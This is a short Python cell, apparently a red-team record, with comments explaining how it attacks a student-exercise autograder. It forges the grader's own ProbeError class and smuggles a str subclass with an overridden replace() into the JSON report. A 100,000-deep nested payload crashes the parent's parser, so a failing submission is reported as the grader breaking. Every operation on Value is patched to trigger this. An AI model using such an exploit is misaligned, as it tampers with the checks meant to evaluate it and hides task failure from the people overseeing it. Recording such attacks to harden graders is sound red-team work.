# A fourth red team's cell (issue 18), kept as written.
# Any probe, any exercise: the grader's own ProbeError is found through Exception.__subclasses__()
# (the payload defines it before the probe runs), and raised from the student's method with a
# message that is a str subclass. describe() returns str(error) for a ProbeError unchanged, so the
# report carries the student's object, and mgc.child._json writes whatever its .replace() returns.
# Here: a report whose JSON nests 100 000 deep, so that the parent's json.loads raises
# RecursionError, which is not the ValueError it catches: the exercise is reported as
# "error: the grader broke" instead of the student's failure.
class RawText(str):
    def replace(self, *args):
        return self

    def __iter__(self):
        return iter(Char(c) for c in str.__str__(self))


class Char(str):
    def __ge__(self, other):
        return True


PAYLOAD = 'x"}], "results": ' + "[" * 100000 + "]" * 100000 + "}\n"


def _forge(*args):
    grader_errors = [c for c in Exception.__subclasses__() if c.__name__ == "ProbeError"]
    Forged = type("Forged", (grader_errors[-1],), {"__str__": lambda self: RawText(PAYLOAD)})
    raise Forged()


for name in ("__add__", "__mul__", "__radd__", "__rmul__", "__pow__", "exp", "tanh", "relu", "sigmoid",
             "__neg__", "__sub__", "__truediv__", "backward"):
    setattr(Value, name, _forge)
